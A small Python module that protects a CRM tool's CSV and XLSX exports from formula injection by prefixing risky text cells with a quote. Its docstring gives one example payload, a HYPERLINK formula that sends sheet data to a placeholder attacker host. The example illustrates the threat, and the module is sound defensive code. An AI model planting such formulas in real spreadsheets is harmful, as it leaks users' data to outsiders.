"""Cells crmhub writes into CSV and XLSX files are formula-safe.

A spreadsheet program runs a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")` sends the sheet's
data away on a click). Every writer of a CSV or XLSX passes its text cells through
`safe_cell`, which prefixes such a text with `'` so it shows as the text it is. Numbers,
dates and empty cells pass unchanged."""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """The value as a cell: a text a spreadsheet would read as a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
